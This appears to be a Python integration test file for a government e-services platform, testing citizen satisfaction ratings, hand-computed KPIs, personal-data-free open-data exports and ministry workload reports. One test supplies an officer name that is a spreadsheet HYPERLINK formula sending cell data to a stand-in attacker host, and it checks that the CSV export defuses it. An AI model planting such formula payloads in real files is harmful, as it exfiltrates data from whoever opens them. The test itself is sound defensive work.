"""Satisfaction surveys, KPIs checked against a scenario computed by hand, open data without personal data,
and the ministry's workload."""

import csv
import io
import json
from datetime import datetime
from decimal import Decimal
from typing import Any

import pytest
from sqlalchemy import func, select

from services.requests.store import inbox, outbox
from shared.auth import Identity
from shared.bus import Envelope
from shared.bus.topology import EVENTS
from shared.contracts.catalog import ReadinessAssessed
from shared.contracts.requests import SurveyInvited
from tests.factories import create_citizen, create_ministry_identity
from tests.integration.bus.helpers import eventually
from tests.integration.requests.factories import create_officer
from tests.integration.requests.helpers import Harness, at, create_service_record, move, on, submit

pytestmark = pytest.mark.integration
JANUARY = {"from": "2026-01-01", "to": "2026-01-31"}


async def rate(harness: Harness, tracking_number: str, score: int, when: datetime, comment: str | None = None,
               citizen: Identity | None = None) -> Any:
    at(harness, when)
    return await harness.client.post(f"/api/v1/requests/{tracking_number}/rating",
                                     headers=harness.as_(citizen or create_citizen()),
                                     json={"score": score, "comment": comment})


async def decided(harness: Harness, submitted: datetime, decision: str, decided_at: datetime,
                  completed_at: datetime | None = None, service: str = "renew-licence", ministry: str = "rop",
                  who: Identity | None = None) -> str:
    tracking_number = await submit(harness, submitted, service)
    steps = [("received", submitted), ("in_review", submitted), (decision, decided_at)]
    if completed_at is not None:
        steps.append(("completed", completed_at))
    await move(harness, tracking_number, *steps, ministry=ministry, who=who)
    return tracking_number


async def count_events(harness: Harness, event_type: str) -> int:
    async with harness.app.state.runtime.engine.connect() as connection:
        return int((await connection.execute(select(func.count()).select_from(outbox)
                                             .where(outbox.c.type == event_type))).scalar() or 0)


async def test_a_completed_request_invites_one_survey_and_takes_exactly_one_rating(harness: Harness) -> None:
    tracking_number = await submit(harness, on("2026-01-04"))
    early = await rate(harness, tracking_number, 5, on("2026-01-04"))
    assert early.status_code == 409 and early.json()["code"] == "not-completed"
    await move(harness, tracking_number, ("received", on("2026-01-04")), ("in_review", on("2026-01-04")),
               ("approved", on("2026-01-05")), ("completed", on("2026-01-06")))
    await harness.ministry_says(tracking_number, "completed")

    async def recorded() -> bool:
        # The late duplicate is kept in the ministry's view (the citizen's shows only what was applied).
        staff = await harness.client.get(f"/api/v1/requests/{tracking_number}",
                                         headers=harness.as_(create_ministry_identity("rop")))
        return len(staff.json()["history"]) == 6

    await eventually(recorded)
    assert await count_events(harness, SurveyInvited.TYPE) == 1
    assert (await harness.status_of(tracking_number))["survey_open"] is True
    stranger = await rate(harness, tracking_number, 5, on("2026-01-07"), citizen=create_citizen("99990000"))
    assert stranger.status_code == 404
    out_of_range = await rate(harness, tracking_number, 6, on("2026-01-07"))
    assert out_of_range.status_code == 422
    rated = await rate(harness, tracking_number, 4, on("2026-01-07"), comment="سريع")
    assert rated.status_code == 201 and rated.json() == {"tracking_number": tracking_number, "score": 4}
    again = await rate(harness, tracking_number, 1, on("2026-01-08"))
    assert again.status_code == 409 and again.json()["code"] == "already-rated"
    body = await harness.status_of(tracking_number)
    assert (body["survey_open"], body["rating"]) == (False, {"score": 4, "comment": "سريع",
                                                              "rated_at": "2026-01-07T08:00:00Z"})


async def assess(harness: Harness, slug: str, manual: str, digital: str, assessed_at: datetime) -> None:
    event = ReadinessAssessed(slug=slug, ministry="rop", maturity="electronic", volume_per_year=1000,
                              manual_cost_omr=Decimal(manual), digital_cost_omr=Decimal(digital),
                              assessed_at=assessed_at)
    envelope = Envelope(type=ReadinessAssessed.TYPE, source="/catalog", data=event.model_dump(mode="json"))
    await harness.bus.publish(envelope, EVENTS, "catalog.readiness.assessed")

    async def kept() -> bool:
        async with harness.app.state.runtime.engine.connect() as connection:
            return (await connection.execute(select(inbox.c.event_id).where(inbox.c.event_id == envelope.id))
                    ).first() is not None

    await eventually(kept)


async def channel_count(harness: Harness, month: str, channel: str, completed: int, service: str = "renew-licence",
                        ministry: str = "rop") -> Any:
    return await harness.client.post("/api/v1/ministry/channel-counts", headers=harness.as_(
        create_ministry_identity(ministry)), json={"service": service, "month": month, "channel": channel,
                                                   "completed": completed})


async def scenario(harness: Harness) -> dict[str, str]:
    """Renew-licence (ROP, assessed) and moh-permit (MOH, not assessed) through January 2026."""
    await harness.publish_service(create_service_record(slug="moh-permit", ministry="moh"))
    numbers: dict[str, str] = {}
    sunday = on("2026-01-04")  # due two working days later: Tuesday 6 January, 08:00
    numbers["r1"] = await decided(harness, sunday, "approved", on("2026-01-05"), on("2026-01-06"))
    numbers["r2"] = await decided(harness, sunday, "approved", on("2026-01-08"), on("2026-01-09"))
    numbers["r3"] = await submit(harness, sunday)
    at(harness, sunday)
    await harness.client.post(f"/api/v1/requests/{numbers['r3']}/cancel", headers=harness.as_(create_citizen()))
    # Started in December (due Monday 22 December), decided late and completed in January after 13 days 4 hours:
    # 131 whole tenths of a day, so 13.1 days.
    numbers["r4"] = await decided(harness, on("2025-12-20"), "rejected", on("2026-01-02"), on("2026-01-02", 12))
    numbers["r5"] = await submit(harness, on("2026-01-20"))
    numbers["r6"] = await decided(harness, on("2026-01-11"), "approved", on("2026-01-12"), on("2026-01-12", 20),
                                  service="moh-permit", ministry="moh")
    numbers["r7"] = await submit(harness, on("2026-01-31", 23), "moh-permit")
    numbers["r8"] = await submit(harness, on("2026-02-01"), "moh-permit")
    assert (await rate(harness, numbers["r1"], 5, on("2026-01-07"), "call me on 91234567")).status_code == 201
    assert (await rate(harness, numbers["r2"], 3, on("2026-01-10"), "write to aisha@example.om")).status_code == 201
    assert (await rate(harness, numbers["r4"], 4, on("2026-01-03"))).status_code == 201
    assert (await rate(harness, numbers["r6"], 2, on("2026-02-02"))).status_code == 201
    assert (await channel_count(harness, "2026-01", "service_centre", 9)).status_code == 200
    replaced = await channel_count(harness, "2026-01", "service_centre", 5)
    assert replaced.json() == {"service": "renew-licence", "month": "2026-01", "channel": "service_centre",
                               "completed": 5}
    await channel_count(harness, "2026-01", "post", 2)
    await channel_count(harness, "2025-12", "post", 100)
    await channel_count(harness, "2026-02", "post", 100)
    await assess(harness, "renew-licence", "5.000", "1.500", on("2026-01-15"))
    # An older answer arriving late never replaces the latest assessment.
    await assess(harness, "renew-licence", "9.000", "0.100", on("2025-06-01"))
    at(harness, on("2026-02-10"))
    return numbers


def kpis(started: int, completed: int, cancelled: int, completion_rate: float | None, median: float | None,
         p90: float | None, sla: float | None, responses: int, csat: float | None, mean: float | None, online: int,
         other: int, take_up: float | None, cost: str | None, saving: str | None) -> dict[str, Any]:
    return {"started": started, "completed": completed, "cancelled": cancelled, "completion_rate": completion_rate,
            "median_processing_days": median, "p90_processing_days": p90, "sla_met_rate": sla,
            "satisfaction": {"responses": responses, "csat": csat, "mean_score": mean},
            "online_completed": online, "other_channel_completed": other, "digital_take_up": take_up,
            "cost_per_transaction_omr": cost, "estimated_saving_omr": saving}


LICENCE = kpis(4, 2, 1, 0.6667, 5.0, 13.1, 0.3333, 3, 0.6667, 4.0, 3, 7, 0.3, "3.950", "10.500")
PERMIT = kpis(2, 1, 0, 1.0, 1.5, 1.5, 1.0, 0, None, None, 1, 0, 1.0, None, None)
TOTAL = kpis(6, 3, 1, 0.75, 3.5, 13.1, 0.5, 3, 0.6667, 4.0, 4, 7, 0.3636, "3.950", "10.500")


async def test_every_kpi_matches_the_figures_computed_by_hand(harness: Harness) -> None:
    await scenario(harness)
    response = await harness.client.get("/api/v1/performance", params=JANUARY)
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["period"] == {"from": "2026-01-01", "to": "2026-01-31"}
    assert body["totals"] == TOTAL
    assert body["ministries"] == [{"ministry": "moh"} | PERMIT, {"ministry": "rop"} | LICENCE]
    assert body["services"] == [
        {"service": "moh-permit", "ministry": "moh", "maturity": "electronic", "digitised_on": None} | PERMIT,
        {"service": "renew-licence", "ministry": "rop", "maturity": "electronic", "digitised_on": None} | LICENCE]
    one = await harness.client.get("/api/v1/performance", params=JANUARY | {"ministry": "moh"})
    assert one.json()["totals"] == PERMIT and [s["service"] for s in one.json()["services"]] == ["moh-permit"]


async def test_the_open_data_files_hold_the_figures_and_no_personal_data(harness: Harness) -> None:
    numbers = await scenario(harness)
    as_json = await harness.client.get("/open-data/kpis.json", params=JANUARY)
    as_csv = await harness.client.get("/open-data/kpis.csv", params=JANUARY)
    assert as_csv.headers["content-type"].startswith("text/csv")
    body = as_json.json()
    assert body["license"] and set(body["fields"]) == set(next(csv.reader(io.StringIO(as_csv.text))))
    [licence] = [s for s in body["services"] if s["service"] == "renew-licence"]
    assert (licence["started"], licence["satisfaction_csat"], licence["cost_per_transaction_omr"]) == (
        4, 0.6667, "3.950")
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [r["service"] for r in rows] == ["moh-permit", "renew-licence"]
    assert rows[1]["estimated_saving_omr"] == "10.500"
    citizen = create_citizen()
    for text in (json.dumps(body, ensure_ascii=False), as_csv.text):
        for personal in [citizen.subject, citizen.name or "", "91234567", "aisha@example.om", "call me",
                         *numbers.values()]:
            assert personal not in text


async def test_the_workload_shows_each_service_and_officer_with_their_handling_time(harness: Harness) -> None:
    officer = create_officer()
    await decided(harness, on("2026-01-04"), "approved", on("2026-01-05"), who=officer)
    await decided(harness, on("2026-01-04"), "rejected", on("2026-01-04", 14), who=officer)
    open_one = await submit(harness, on("2026-01-04"))
    at(harness, on("2026-01-04"))
    await harness.client.post(f"/api/v1/ministry/requests/{open_one}/assign", headers=harness.as_(officer),
                              json={"assignee": "me"})
    at(harness, on("2026-01-20"))
    response = await harness.client.get("/api/v1/ministry/workload", params=JANUARY,
                                        headers=harness.as_(create_officer(subject="officer-2")))
    # Overdue: the open one, and the approved one never completed past its due date.
    assert response.json() == {
        "services": [{"service": "renew-licence", "open": 3, "overdue": 2, "decided": 2,
                      "median_handling_hours": 15.0}],
        "officers": [{"officer": "officer-7", "officer_name": "Salim Al-Harthi", "assigned_open": 1, "overdue": 1,
                      "decided": 2, "median_handling_hours": 15.0}]}
    as_csv = await harness.client.get("/api/v1/ministry/workload", params=JANUARY | {"format": "csv"},
                                      headers=harness.as_(create_officer()))
    assert as_csv.text.splitlines()[:3] == ["services", "service,open,overdue,decided,median_handling_hours",
                                            "renew-licence,3,2,2,15.0"]


async def test_an_officer_named_like_a_formula_opens_in_a_spreadsheet_as_text(harness: Harness) -> None:
    officer = create_officer(name='=HYPERLINK("https://evil.example/?x="&A1,"Open")')
    await decided(harness, on("2026-01-04"), "approved", on("2026-01-05"), who=officer)
    as_csv = await harness.client.get("/api/v1/ministry/workload", params=JANUARY | {"format": "csv"},
                                      headers=harness.as_(create_officer()))
    cells = [cell for row in csv.reader(io.StringIO(as_csv.text)) for cell in row]
    assert "'" + officer.name in cells  # type: ignore[operator]
    assert not [cell for cell in cells if cell[:1] in "=+-@"]


@pytest.mark.parametrize(("path", "params"), [
    ("/open-data/kpis.json", {"to": "0001-01-01"}), ("/open-data/kpis.csv", {"from": "0001-01-01"}),
    ("/api/v1/performance", {"from": "9999-12-31"}), ("/open-data/kpis.json", {"to": "9999-12-31"})])
async def test_a_period_out_of_any_sane_range_is_refused_naming_the_field(harness: Harness, path: str,
                                                                          params: dict[str, str]) -> None:
    response = await harness.client.get(path, params=params)
    assert response.status_code == 422
    assert [e["field"] for e in response.json()["errors"]] == list(params)


@pytest.mark.parametrize("month", ["0000-01", "9999-12"])
async def test_a_channel_count_for_a_month_out_of_range_is_refused(harness: Harness, month: str) -> None:
    response = await channel_count(harness, month, "service_centre", 3)
    assert response.status_code == 422
    assert [e["field"] for e in response.json()["errors"]] == ["month"]


async def test_a_document_dated_out_of_range_is_refused_naming_the_field(harness: Harness) -> None:
    response = await harness.client.post("/api/v1/ministry/documents", headers=harness.as_(
        create_ministry_identity("rop")), json={"national_id": "12345678", "document_type": "driving_licence",
                                                "number": "DL-1", "issued_on": "2020-01-01",
                                                "expires_on": "9999-12-31"})
    assert response.status_code == 422
    assert [e["field"] for e in response.json()["errors"]] == ["expires_on"]
